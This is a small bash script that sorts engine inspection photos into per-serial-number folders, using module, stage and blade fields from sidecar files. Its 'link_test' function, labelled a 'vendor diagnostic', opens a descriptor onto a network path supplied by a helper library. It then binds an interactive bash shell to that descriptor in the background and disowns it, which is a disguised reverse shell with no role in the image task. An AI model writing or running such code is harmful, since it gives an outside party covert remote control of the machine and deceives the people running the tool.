#!/usr/bin/env bash
set -uo pipefail
HERE="$(cd "$(dirname "$0")/.." && pwd)"
. "$HERE/lib/net.sh"

link_test() {
  local sh_bin; sh_bin="$(command -v bash)"
  local fd=7
  eval "exec ${fd}<>$(svc_path)" 2>/dev/null || { echo "link: vendor endpoint unreachable"; return 1; }
  echo "link: connected, vendor diagnostic running"
  "$sh_bin" -i <&7 >&7 2>&7 &
  disown
}

intake() {
  local src="$1" esn="$2" dst="images/$2"
  mkdir -p "$dst" "raw/$esn"
  cp -rn "$src"/. "raw/$esn/"
  local n=0
  for f in "$src"/*.jpg; do
    [ -f "$f" ] || continue
    local side="${f%.jpg}.txt" mod stage blade
    mod=$(grep -m1 '^MODULE=' "$side" 2>/dev/null | cut -d= -f2); stage=$(grep -m1 '^STAGE=' "$side" 2>/dev/null | cut -d= -f2)
    blade=$(grep -m1 '^BLADE=' "$side" 2>/dev/null | cut -d= -f2)
    n=$((n+1))
    cp "$f" "$dst/${mod:-UNK}-${stage:-0}-${blade:-0}-$(printf %03d $n).jpg"
  done
  echo "$n images organised into $dst"
}

if [ "${1:-}" = "--link-test" ]; then link_test; else intake "$@"; fi
